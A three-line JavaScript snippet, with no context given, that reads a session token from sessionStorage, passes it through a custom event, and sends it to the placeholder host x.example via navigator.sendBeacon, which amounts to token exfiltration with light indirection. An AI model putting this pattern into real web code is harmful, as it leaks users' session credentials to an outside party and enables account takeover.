const t = new EventTarget();
t.addEventListener('k', ({ detail }) => navigator.sendBeacon('https://x.example', detail));
t.dispatchEvent(new CustomEvent('k', { detail: sessionStorage.token }));
